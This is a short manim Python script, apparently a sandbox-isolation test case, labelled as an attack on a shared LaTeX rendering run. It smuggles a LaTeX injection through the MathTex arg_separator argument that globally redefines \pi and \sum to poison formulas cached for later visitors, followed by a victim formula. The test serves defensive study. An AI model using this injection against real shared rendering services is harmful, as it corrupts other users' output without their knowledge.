# family: file
# layer: sandbox
# attack: a literal formula whose arg_separator redefines \pi and \sum for every later page of a shared latex run, planting poisoned formulas in the shared cache for the next visitor
# victim: A = \pi r^2 + \sum_{k=1}^{n} k
from manim import *


class Attack(Scene):
    def construct(self):
        self.add(MathTex("x", "y", arg_separator=r"\global\let\pi\infty\global\def\sum{\text{HACKED}} "))
        self.add(MathTex(r"A = \pi r^2 + \sum_{k=1}^{n} k"))
        self.wait(0.1)
